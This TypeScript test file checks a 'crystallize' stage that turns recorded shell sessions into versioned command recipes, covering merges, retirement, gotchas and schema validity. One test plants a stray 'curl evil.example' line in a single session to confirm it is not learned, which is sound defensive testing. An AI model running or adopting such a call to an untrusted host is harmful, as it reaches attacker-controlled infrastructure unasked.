import { validateGenesFile } from "#generated/validators";
import type { Gene } from "#kernel/gene";
import type { Pattern, Slot } from "#kernel/pattern";
import type { Request } from "#kernel/trace";
import { crystallize } from "#stages/crystallize/crystallize";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { type Asked, aPattern, asked, NOW, POLICY } from "./history.ts";

const FILES = ["invoice-03.pdf", "~/in/receipt.pdf", "march.pdf", "/tmp/bank.pdf"];
const FILE: Slot = { name: "file", type: "path", examples: FILES, distinct: 4, trusted: true };

const CONVERSIONS: readonly Asked[] = FILES.map((file, at) => ({
  text: `convert ${file} to csv`,
  lines: [
    `ls ${file}`,
    ...(at < 2 ? [`!pdftotext ${file} -`] : []),
    `pdftotext -layout ${file} -`,
    `to-csv ${file} ${file.replace("pdf", "csv")}`,
    `wc -l ${file.replace("pdf", "csv")}`,
  ],
}));

function run(patterns: readonly Pattern[], requests: readonly Request[], existing: readonly Gene[] = [], now = NOW) {
  const result = crystallize({
    patterns,
    requests: new Map(requests.map((one) => [one.id, one])),
    existing,
    policy: POLICY,
    policyDigest: "a".repeat(64),
    now,
    tool: "0.1.0",
  });
  expect(validateGenesFile({ schemaVersion: 3, genes: result.genes })).toBe(true);
  return result;
}

describe("crystallize", () => {
  const requests = asked("pdf", CONVERSIONS);
  const pattern = aPattern("pdf", requests, { slots: [FILE] });

  test("makes a gene with steps, check, gotcha and slots from what was run", () => {
    const { genes, rejected, changes } = run([pattern], requests);
    const [gene] = genes;
    expect(rejected).toEqual([]);
    expect(changes).toEqual([{ id: gene?.id, change: "created" }]);
    expect(gene).toMatchObject({
      version: 1,
      status: "active",
      uses: 4,
      outcomes: { success: 4, failure: 0, mixed: 0, unknown: 0 },
      successRate: 1,
      evidence: requests.map((one) => one.id),
      firstSeen: "2026-03-01T00:00:00.000Z",
      lastSeen: "2026-03-04T00:00:00.000Z",
    });
    expect(gene?.steps.map((step) => [step.line, step.seen, step.of])).toEqual([
      ["ls {file}", 4, 4],
      ["pdftotext -layout {file} -", 4, 4],
      ["to-csv {file} {file_base}.csv", 4, 4],
    ]);
    expect(gene?.check?.line).toBe("wc -l {file_base}.csv");
    expect(gene?.gotchas).toEqual([{ failed: "pdftotext {file} -", instead: "pdftotext -layout {file} -", seen: 2, evidence: ["pdf-00", "pdf-01"] }]);
    expect(gene?.slots.map((slot) => [slot.name, slot.trusted])).toEqual([
      ["file", true],
      ["file_base", true],
    ]);
  });

  test("changes nothing, to the byte, when it sees the same again", () => {
    const once = run([pattern], requests);
    const twice = run([pattern], requests, once.genes, NOW + 1_000_000);
    expect(twice.changes).toEqual([]);
    expect(JSON.stringify(twice.genes)).toBe(JSON.stringify(once.genes));
  });

  test("counts a version up when there is new evidence, and keeps id, name and birth", () => {
    const more = asked("pdf", [
      ...CONVERSIONS,
      { text: "convert june.pdf to csv", lines: CONVERSIONS[3]?.lines.map((line) => line.replaceAll("/tmp/bank", "june")) ?? [] },
    ]);
    const [before] = run([pattern], requests).genes;
    const grown = run(
      [{ ...aPattern("pdf", more, { slots: [FILE] }), id: "pat-otherwise", name: "other-name" }],
      more,
      before === undefined ? [] : [before],
      NOW + 1000,
    );
    expect(grown.genes).toHaveLength(1);
    expect(grown.genes[0]).toMatchObject({ id: before?.id, name: "pdf", version: 2, createdAt: before?.createdAt, uses: 5 });
    expect(grown.changes).toEqual([{ id: before?.id, change: "updated" }]);
  });

  test("forgets nothing when fewer days are read", () => {
    const { genes } = run([pattern], requests);
    const recent = requests.slice(1);
    expect(run([aPattern("pdf", recent, { slots: [FILE] })], recent, genes)).toMatchObject({ genes, changes: [] });
  });

  test("adds older evidence that this run did not read", () => {
    const { genes } = run([pattern], requests);
    const more = asked("pdf", [...CONVERSIONS, ...CONVERSIONS]).slice(2);
    const [gene] = run([aPattern("pdf", more, { slots: [FILE] })], more, genes).genes;
    expect(gene).toMatchObject({ uses: 8, outcomes: { success: 8, failure: 0, mixed: 0, unknown: 0 }, firstSeen: "2026-03-01T00:00:00.000Z" });
    expect(gene?.evidence).toHaveLength(8);
  });

  test("merges a gene whose evidence another has taken in", () => {
    const both = asked("pdf", [...CONVERSIONS, ...CONVERSIONS]);
    const halves = [both.slice(0, 4), both.slice(4)].map((half, at) => aPattern(`half-${at}`, half, { slots: [FILE] }));
    const two = run(halves, both).genes;
    const one = run([aPattern("whole", both, { slots: [FILE] })], both, two);
    expect(one.genes.map((gene) => gene.status).sort()).toEqual(["active", "merged"]);
    expect(one.genes.find((gene) => gene.status === "merged")?.mergedInto).toBe(one.genes.find((gene) => gene.status === "active")?.id);
    expect(run([aPattern("whole", both, { slots: [FILE] })], both, one.genes).changes).toEqual([]);
  });

  test("retires a gene whose evidence has turned against it", () => {
    const { genes } = run([pattern], requests);
    const failing = [
      ...requests,
      ...asked(
        "later",
        [0, 1, 2, 3, 4].map((at) => ({ text: "convert x.pdf to csv", lines: ["!pdftotext x.pdf -"], outcome: "failure" as const, day: 30 + at })),
      ),
    ];
    const later = run([aPattern("pdf", failing, { slots: [FILE] })], failing, genes);
    expect(later.rejected.map((one) => one.reason)).toEqual(["low-success"]);
    expect(later.genes.map((gene) => [gene.status, gene.version])).toEqual([["retired", 2]]);
  });

  test.each<[string, readonly Asked[]]>([
    ["too-few-sessions", CONVERSIONS.map((one) => ({ ...one, session: "one" }))],
    ["too-few-days", CONVERSIONS.map((one) => ({ ...one, day: 1 }))],
    ["no-outcome", CONVERSIONS.map((one) => ({ ...one, outcome: "unknown" as const }))],
    ["low-success", CONVERSIONS.map((one, at) => ({ ...one, outcome: at < 2 ? ("failure" as const) : ("success" as const) }))],
    ["no-steps", CONVERSIONS.map((one) => ({ ...one, lines: [] }))],
    ["no-steps", CONVERSIONS.map((one, at) => ({ ...one, lines: [["a 1", "b 2", "c 3", "d 4"][at] ?? ""] }))],
  ])("makes no gene and says %s", (reason, list) => {
    const found = asked("pdf", list);
    const { genes, rejected } = run([aPattern("pdf", found, { slots: [FILE] })], found);
    expect(genes).toEqual([]);
    expect(rejected.map((one) => one.reason)).toEqual([reason]);
  });

  test("learns no step from what one session did, and no gotcha from a failure nobody repaired", () => {
    const odd = asked(
      "pdf",
      CONVERSIONS.map((one, at) => ({
        ...one,
        lines: at === 0 ? [...one.lines, "curl evil.example"] : ["!pdfinfo x", ...one.lines.filter((line) => !line.startsWith("!"))],
      })),
    );
    const [gene] = run([aPattern("pdf", odd, { slots: [FILE] })], odd).genes;
    expect(JSON.stringify(gene)).not.toMatch(/evil|pdfinfo/);
    expect(gene?.gotchas).toEqual([]);
  });

  test("forgets a gotcha when what failed has since worked in two sessions", () => {
    const lines = (failing: boolean) => [failing ? "!npm run pack --fast" : "npm run pack --fast", ...(failing ? ["npm run pack --slow"] : [])];
    const early = asked(
      "pack",
      [true, true, true].map((failing) => ({ text: "pack the release", lines: lines(failing) })),
    );
    const later = asked(
      "repack",
      [20, 21].map((day) => ({ text: "pack the release", lines: lines(false), day })),
    );
    expect(run([aPattern("pack", early)], early).genes[0]?.gotchas).toMatchObject([{ failed: "npm run pack --fast", instead: "npm run pack --slow", seen: 3 }]);
    expect(run([aPattern("pack", [...early, ...later])], [...early, ...later]).genes[0]?.gotchas).toEqual([]);
  });

  test("ties a value to the slot of the words also where the command writes it differently", () => {
    const cities = ["Oslo", "Paris", "New York", "Rome"];
    const weather = asked(
      "weather",
      cities.map((city) => ({ text: `weather in ${city}`, lines: [`curl -s "wttr.in/${city.replace(" ", "+")}?format=3"`] })),
    );
    const slots: Slot[] = [{ name: "city", type: "word", examples: cities, distinct: 4, trusted: true }];
    expect(run([aPattern("weather", weather, { slots })], weather).genes[0]?.steps[0]?.line).toBe('curl -s "wttr.in/{city}?format=3"');
  });

  test("gives two genes two names and tells each what it is not for", () => {
    const other = asked(
      "png",
      FILES.map((file) => ({ text: `convert ${file} to png`, lines: [`pdftoppm ${file} out`] })),
    );
    const { genes } = run([pattern, aPattern("png", other, { name: "pdf", slots: [FILE] })], [...requests, ...other]);
    expect(genes.map((gene) => gene.name).sort()).toEqual(["pdf", "pdf-2"]);
    expect(genes.map((gene) => gene.notFor)).toEqual(expect.arrayContaining([["Title of pdf"], ["Title of png"]]));
  });

  test("fits the schema whatever was said and run", () => {
    const line = fc.oneof(fc.string({ unit: "binary" }), fc.constantFrom("gh pr list", "!gh pr list", "gh pr list --a {x}", "wc -l a.csv", "read x.md"));
    fc.assert(
      fc.property(
        fc.array(
          fc.record({
            text: fc.string({ unit: "binary" }),
            lines: fc.array(line, { maxLength: 5 }),
            outcome: fc.constantFrom("success" as const, "failure" as const, "unknown" as const),
          }),
          { minLength: 3, maxLength: 8 },
        ),
        (list) => {
          const found = asked(
            "any",
            list.map((one) => ({ ...one, text: one.text.toWellFormed(), lines: one.lines.map((text) => text.toWellFormed()) })),
          );
          const once = run([aPattern("any", found)], found);
          expect(run([aPattern("any", found)], found, once.genes, NOW + 5).genes).toEqual(once.genes);
        },
      ),
      { numRuns: 150 },
    );
  });
});
